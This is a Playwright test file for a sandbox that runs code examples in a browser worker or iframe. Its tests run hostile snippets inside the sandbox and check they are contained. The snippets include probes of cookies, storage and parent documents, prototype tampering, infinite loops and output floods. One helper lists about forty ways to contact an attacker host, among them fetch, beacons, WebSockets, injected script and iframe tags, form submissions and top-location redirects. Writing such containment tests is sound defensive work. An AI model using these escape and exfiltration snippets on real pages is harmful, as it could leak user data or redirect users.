import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import type { Environment, RunEvent } from '../../theme/support/runner/events';
import { expect, test } from './fixtures';
import { openHarness, runInSandbox } from './runInSandbox';

const ENVIRONMENTS: Environment[] = ['worker', 'document'];

/** What browsers say of attempts that they refuse. */
const REFUSALS =
  /Content Security Policy|sandbox|Blocked|Refused|violates|denied|not allowed|failed/i;

const HARMLESS = '1 + 1; // => 2';

test.use({ site: 'options', expectedMessages: REFUSALS });

test.beforeEach(({ page }) => openHarness(page));

/** Runs an attack, then, with the same runner, something harmless, which must give what it always gives. */
async function attack(page: Page, environment: Environment, code: string): Promise<RunEvent[]> {
  const [events, next] = await runInSandbox(page, environment, code, HARMLESS);
  expect(next!.map(({ type }) => type)).toEqual(['result', 'finished']);
  expect(next![0]).toMatchObject({ ok: true, actual: { summary: '2' } });
  return events!;
}

/** What an example has printed. */
const printed = (events: RunEvent[]) =>
  events.flatMap((event) =>
    event.type === 'console' ? (event.text.details ?? event.text.summary) : [],
  );

for (const environment of ENVIRONMENTS) {
  test(`reports what happens in a ${environment}, in order, with lines`, async ({ page }) => {
    const [events] = await runInSandbox(
      page,
      environment,
      [
        "import { unique } from 'funtool/array';",
        'unique([1, 1]); // => [1]',
        'unique([2, 2]); // => [1]',
        'await Promise.resolve(new Map([[1, { a: [] }]]));',
        "const print = (n: number) => console.warn('%d', n);",
        'print(3);',
        "setTimeout(() => console.log('late'), 20);",
        'if (false) {',
        '  1; // => 1',
        '}',
        'null.length;',
      ].join('\n'),
    );
    expect(events).toEqual([
      result(2, '[ 1 ]', { expected: '[1]', ok: true }),
      result(3, '[ 2 ]', { expected: '[1]', ok: false }),
      result(4, 'Map(1) { 1 => { a: [] } }'),
      { type: 'console', level: 'warn', line: 5, text: { summary: '3' }, time },
      { type: 'error', line: 11, message: expect.stringContaining('TypeError: '), time },
      { type: 'console', level: 'log', line: 7, text: { summary: 'late' }, time },
      { type: 'unreached', line: 9, expected: '1', time },
      { type: 'finished', time },
    ]);
  });

  test(`gives a ${environment} nothing of the site`, async ({ page }) => {
    const events = await attack(
      page,
      environment,
      `const tries = {
         origin: () => self.origin,
         localStorage: () => localStorage.length,
         sessionStorage: () => sessionStorage.length,
         cookie: () => { document.cookie = 'a=1'; return document.cookie; },
         indexedDB: () => new Promise((resolve, reject) => {
           const request = indexedDB.open('a');
           request.onsuccess = resolve;
           request.onerror = () => reject(request.error);
         }),
         caches: () => caches.open('a'),
         serviceWorker: () => navigator.serviceWorker.register('/funtool/sw.js'),
         parent: () => parent === self ? undefined : parent.document,
         top: () => top.document,
         frameElement: () => { if (frameElement) return frameElement; },
         opener: () => { if (opener) return opener; },
         open: () => { if (open('about:blank')) return 'a window'; },
         event: () => { if (self.event) return self.event; },
         port: () => { if (self.postMessage && !self.document) return 'a way to the document'; },
       };
       for (const [name, run] of Object.entries(tries)) {
         try {
           const value = await run();
           if (value !== undefined) console.log(name, value);
         } catch {}
       }`,
    );
    expect(printed(events)).toEqual(['origin null']);
    expect(events.at(-1)!.type).toBe('finished');
  });

  test(`lets a ${environment} connect to nobody`, async ({ page }) => {
    const attacker = await listen();
    const events = await attack(page, environment, connections(attacker.host));
    expect(printed(events)).toEqual(['all tried']);
    expect(attacker.connections()).toBe(0);
    attacker.close();
  });

  test(`ends a flood from a ${environment}`, async ({ page }) => {
    const floods = [
      'while (true) console.log(1);',
      "while (true) console.log('x'.repeat(1e6));",
      "for (let n = 0; n < 5000; n += 1) setTimeout(() => { throw new Error('x'.repeat(1e5)); });",
    ];
    for (const flood of floods) {
      const events = await attack(page, environment, flood);
      expect(events.at(-1)).toMatchObject({ type: 'stopped', reason: 'output' });
      expect(events.length).toBeLessThan(1100);
      expect(JSON.stringify(events).length).toBeLessThan(1_000_000);
    }
  });

  test(`is not broken by what runs in a ${environment}`, async ({ page }) => {
    const tampering = `
      const hostile = () => { throw new Error('tampered'); };
      for (const owner of [Array, String, Map, Set, Promise, Function, Object, RegExp]) {
        for (const name of Object.getOwnPropertyNames(owner.prototype)) {
          try {
            Object.defineProperty(owner.prototype, name, { get: hostile, configurable: true });
          } catch {}
        }
      }
      for (const name of Object.getOwnPropertyNames(self)) {
        try { self[name] = hostile; } catch {}
      }
      for (const owner of [self.MessagePort, self.EventTarget, self.Worker, self.Node]) {
        if (owner) owner.prototype.postMessage = owner.prototype.addEventListener = hostile;
      }`;
    const values = `
      new Proxy({}, { ownKeys() { throw new Error('no'); } });
      ({ [Symbol.for('nodejs.util.inspect.custom')]() { throw new Error('no'); } });
      ({ get [Symbol.toStringTag]() { throw new Error('no'); } });
      ({ get a() { throw new Error('no'); } });
      console.log('%s', { toString() { throw new Error('no'); } });`;
    const [tampered, printedValues] = await runInSandbox(page, environment, tampering, values);
    expect(['finished', 'stopped']).toContain(tampered!.at(-1)!.type);
    expect(printedValues!.at(-1)!.type).toBe('finished');
    expect(printedValues!.filter(({ type }) => type === 'error')).toEqual([]);
    await attack(page, environment, values);
  });
}

test('ends what would never end, while the page goes on', async ({ page }) => {
  const endless = [
    'while (true);',
    'for (;;) { try { for (;;); } catch {} }',
    'const again = () => Promise.resolve().then(again); again();',
    'const count = (n) => (n ? count(n - 1) + count(n - 1) : 0); count(99);',
  ];
  const runs = ENVIRONMENTS.flatMap((environment) =>
    endless.map((code) => attack(page, environment, code)),
  );
  const frames = page.evaluate(async () => {
    for (let count = 0; count < 20; count += 1) await new Promise(requestAnimationFrame);
    return document.querySelectorAll('iframe').length;
  });
  expect(await frames).toBeGreaterThan(0);
  for (const events of await Promise.all(runs)) {
    expect(events.at(-1)).toMatchObject({ type: 'stopped', reason: 'time' });
  }
  await expect(page.locator('iframe')).toHaveCount(0);
});

// Other browsers give a page all the memory there is.
test('ends an endless allocation', { tag: '@chromium' }, async ({ page }) => {
  for (const environment of ENVIRONMENTS) {
    const code = 'const list = []; while (true) list.push(new Array(1e5).fill(7));';
    const events = await attack(page, environment, code);
    expect(events.at(-1)).toMatchObject({ type: 'stopped', reason: 'time' });
  }
});

test('goes nowhere else, whatever the example says', async ({ page }) => {
  const attacker = await listen();
  const { url } = { url: page.url() };
  const code = `location.href = 'http://${attacker.host}/'; await new Promise(() => {});`;
  const [events] = await runInSandbox(page, 'document', code, HARMLESS);
  expect(events!.at(-1)).toMatchObject({ type: 'stopped', reason: 'time' });
  expect(attacker.connections()).toBe(0);
  expect(page.url()).toBe(url);
  attacker.close();
});

test('stops when the reader wants it, and starts anew', async ({ page }) => {
  const [first, second] = await page.evaluate(async (code) => {
    const runner = window.createRunner();
    const events: RunEvent[][] = [[], []];
    runner.run({ code: 'while (true);', environment: 'worker' }, (event) => events[0]!.push(event));
    await new Promise<void>((resolve) => {
      runner.run({ code, environment: 'worker' }, (event) => {
        events[1]!.push(event);
        if (event.type === 'finished') resolve();
      });
    });
    runner.stop();
    return events;
  }, HARMLESS);
  expect(first).toEqual([{ type: 'stopped', reason: 'reader', time }]);
  expect(second!.map(({ type }) => type)).toEqual(['result', 'finished']);
});

const time = expect.any(Number);

const result = (line: number, summary: string, stated = {}) => ({
  type: 'result',
  kind: 'value',
  line,
  actual: { summary },
  ...stated,
  time,
});

/** Listens on a port of its own and counts who connects. */
async function listen() {
  let count = 0;
  const server = createServer((socket) => {
    count += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const { port } = server.address() as AddressInfo;
  return {
    host: `127.0.0.1:${port}`,
    connections: () => count,
    close: () => server.close(),
  };
}

/** Everything that we know to connect to somebody, in a document or a worker. */
function connections(host: string): string {
  return `
    const url = 'http://${host}/';
    const add = (name, attributes) => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
      return element;
    };
    const worker = (code) => new Worker(URL.createObjectURL(new Blob([code])));
    const tries = [
      () => fetch(url),
      () => fetch(url, { mode: 'no-cors', keepalive: true }),
      () => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); },
      () => navigator.sendBeacon(url, 'x'),
      () => new WebSocket('ws://${host}/'),
      () => new EventSource(url),
      () => new WebTransport('https://${host}/'),
      () => importScripts(url),
      () => importScripts(URL.createObjectURL(new Blob(['fetch("' + url + '")']))),
      () => import(url),
      () => import('data:text/javascript,fetch("' + url + '")'),
      () => worker('fetch("' + url + '")'),
      () => new Worker(url),
      () => new SharedWorker(url),
      () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }).createDataChannel(''),
      () => { new Image().src = url; },
      () => add('img', { src: url, srcset: url }),
      () => add('script', { src: url }),
      () => add('link', { rel: 'stylesheet', href: url }),
      () => add('link', { rel: 'prefetch', href: url }),
      () => add('link', { rel: 'modulepreload', href: url }),
      () => add('link', { rel: 'icon', href: url }),
      () => add('link', { rel: 'manifest', href: url }),
      () => add('iframe', { src: url }),
      () => add('iframe', { srcdoc: '<img src="' + url + '">' }),
      () => add('object', { data: url }),
      () => add('embed', { src: url }),
      () => add('video', { src: url, poster: url }),
      () => add('audio', { src: url }).play(),
      () => add('div', { style: 'background: url(' + url + ')' }),
      () => { add('style', {}).textContent = '@import "' + url + '"; body { cursor: url(' + url + '), auto }'; },
      () => add('form', { action: url, method: 'post' }).submit(),
      () => add('a', { href: url, ping: url }).click(),
      () => add('a', { href: url, target: '_top' }).click(),
      () => add('a', { href: url, target: '_blank' }).click(),
      () => add('a', { href: url, download: 'x' }).click(),
      () => open(url),
      () => { top.location = url; },
      () => top.location.replace(url),
      () => { document.body.innerHTML += '<svg><image href="' + url + '"/></svg><img src=x onerror="fetch(\\'' + url + '\\')">'; },
    ];
    for (const run of tries) {
      try { await Promise.race([run(), new Promise((resolve) => setTimeout(resolve, 20))]); } catch {}
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    console.log('all tried');`;
}
